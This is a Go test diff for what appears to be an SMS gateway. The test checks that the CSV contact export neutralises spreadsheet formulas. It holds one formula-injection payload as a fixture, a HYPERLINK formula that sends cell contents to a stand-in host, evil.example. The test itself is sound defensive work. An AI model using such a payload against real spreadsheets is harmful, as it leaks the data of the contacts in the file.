@@ -391,3 +391,49 @@ func TestContactsCSVInWindows1252(t *testing.T) {
 		t.Errorf("a UTF-8 name read as %q", c.Name)
 	}
 }
+
+// What a contact texts can end up in the export (an answer saved in a
+// field), and a spreadsheet must not run it: a cell that starts like a
+// formula is exported with an apostrophe before it, the phone numbers stay
+// as they are, and the file imports back as no change.
+func TestContactsCSVExportKeepsFormulasInert(t *testing.T) {
+	t.Parallel()
+	g := StartGateway(t, `
+fields: [city]
+automations:
+  - id: city
+    keywords: [CITY]
+    steps:
+      - { type: reply, text: "Which city?" }
+      - { type: wait_for_reply, timeout: 1h, save_as: city }
+      - { type: set_field, fields: { city: "{{ vars.city }}" } }
+      - { type: reply, text: "Noted." }
+`)
+	const eve = "+15552220301"
+	const formula = `=HYPERLINK("http://evil.example/?"&A1,"Open")`
+	g.Text(Inbound{From: eve, Body: "CITY"})
+	g.Text(Inbound{From: eve, Body: formula})
+	repliesTo(t, g, eve, 2)
+	if c := g.Contact(eve); c.Contact.Fields["city"] != formula {
+		t.Fatalf("the answer was not saved: %+v", c.Contact)
+	}
+	code, export := adminRaw(t, g.URL, http.MethodGet, "/api/v1/contacts.csv", "", map[string]string{"Authorization": "Bearer " + AdminToken})
+	if code != http.StatusOK {
+		t.Fatalf("GET /api/v1/contacts.csv: %d", code)
+	}
+	records, err := csv.NewReader(strings.NewReader(export)).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := [][]string{{"phone", "name", "groups", "tags", "opted_out", "city"}, {eve, "", "", "", "false", "'" + formula}}
+	if len(records) != len(want) || !slices.Equal(records[0], want[0]) || !slices.Equal(records[1], want[1]) {
+		t.Fatalf("export:\n%q\nwant:\n%q", records, want)
+	}
+	s := csvLogin(t, g)
+	_, _, page := s.upload(export, s.csrf)
+	for what, want := range map[string]string{"Rows": "1", "Changed contacts": "0", "Unchanged": "1", "Bad rows": "none"} {
+		if got := csvCount(page, what); got != want {
+			t.Errorf("the export imported back: %s %s, want %s", what, got, want)
+		}
+	}
+}
